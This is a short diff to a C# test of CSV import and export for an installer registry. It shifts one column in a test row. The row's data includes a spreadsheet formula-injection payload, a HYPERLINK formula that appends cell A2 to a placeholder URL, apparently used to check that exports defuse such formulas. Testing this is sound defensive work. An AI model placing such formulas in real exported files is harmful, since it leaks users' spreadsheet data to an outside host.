@@ -105,7 +105,7 @@ public sealed class RegistryCsvImportTests : IAsyncLifetime
         const string formula = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";
         string header = (await ExportAsync()).Split("\r\n")[0];
         InstallerRun imported = await ImportAsync(string.Join("\r\n", header,
-            "0000A1B2,active,home-panic,,home,\"" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",37.5665,126.9780,11140,R-FORMULA1,,,,,0"));
+            "0000A1B2,active,home-panic,,home,\"" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",37.5665,126.9780,11140,,R-FORMULA1,,,,,0"));
         Assert.True(imported.Exit == ExitCodes.Ok, imported.ToString());
 
         string exported = await ExportAsync();
